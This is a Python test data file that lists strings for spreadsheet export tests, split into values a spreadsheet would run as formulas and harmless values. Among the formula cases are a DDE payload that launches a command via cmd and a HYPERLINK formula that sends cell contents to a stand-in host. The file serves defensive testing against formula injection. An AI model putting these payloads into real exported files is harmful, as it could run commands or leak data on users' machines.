"""Texts for the export tests: those a spreadsheet would run, and those it would not."""

FORMULAS = [
    "=1+1",
    "+886 912345678",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1",
    "  =1+1",
    "\u3000=1+1",
    "\u200b=1",
    "\ufeff=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"請點我")',
    "'=1+1",
    "''=1",
    "-",
]
HARMLESS = ["", "王小明", "11510001", "00123", "a=b", "'", "'90 年代", " 前有空白", "3-2", "甲＋乙", "\u3000全形空白", "1\t2"]
